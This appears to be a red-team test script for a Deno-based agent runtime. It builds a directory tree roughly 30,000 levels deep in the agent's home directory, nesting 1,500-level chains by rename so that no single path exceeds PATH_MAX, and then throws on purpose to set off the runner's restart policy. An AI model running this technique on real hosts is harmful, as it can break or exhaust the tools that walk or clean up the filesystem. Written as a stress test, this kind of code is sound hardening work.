// Red team 26 (deno-only): builds a directory tree ~30,000 levels deep in the agent's own home,
// with nothing but Deno.mkdir and Deno.rename inside its write scope. Every path it names stays
// under PATH_MAX: chains of 1,500 levels are nested by renaming one into the bottom of the next.
// Then it throws, so its runner exits with an error: the crash its restart policy answers.
export async function run(ctx) {
  await ctx.endpoint();
  const home = Deno.env.get("HOME");
  const CH = 1500;
  async function chain(name) {
    let p = `${home}/${name}`;
    await Deno.mkdir(p);
    for (let i = 0; i < CH; i++) {
      p += "/a";
      await Deno.mkdir(p);
    }
    return p;
  }
  let total = CH;
  await chain("t0");
  let k = 1;
  while (total < 30000) {
    const bottom = await chain(`t${k}`);
    await Deno.rename(`${home}/t${k - 1}`, `${bottom}/x`);
    total += CH + 1;
    k++;
  }
  await Deno.writeTextFile(`${home}/built`, String(total));
  await new Promise((r) => setTimeout(r, 1000));
  throw new Error("done");
}
